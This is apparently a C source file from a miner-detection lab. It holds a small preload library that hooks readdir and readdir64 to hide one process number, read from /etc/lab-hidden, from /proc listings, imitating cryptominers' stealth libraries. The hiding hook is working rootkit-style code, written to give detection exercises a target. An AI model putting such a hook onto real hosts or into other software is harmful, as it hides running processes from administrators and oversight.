/* demine lab: hides one number from programs that list /proc with the C library, as miners' preloaded libraries do: the one
 * in /etc/lab-hidden. It does nothing else.
 *
 * In C, for it is loaded into every program of the host. A library in Go was tried: it brings Go's threads with it, and a
 * shell that forks and then lists a folder (bash -c '(echo /proc/[0-9]*)') hangs for ever. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static char hidden[16];

__attribute__((constructor)) static void number(void) {
	int fd = open("/etc/lab-hidden", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (read(fd, hidden, sizeof hidden - 1) > 0)
		hidden[strcspn(hidden, "\n")] = 0;
	close(fd);
}

struct dirent *readdir(DIR *dir) {
	struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	struct dirent *entry;
	while ((entry = next(dir)) && strcmp(entry->d_name, hidden) == 0)
		;
	return entry;
}

struct dirent64 *readdir64(DIR *dir) {
	struct dirent64 *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
	struct dirent64 *entry;
	while ((entry = next(dir)) && strcmp(entry->d_name, hidden) == 0)
		;
	return entry;
}
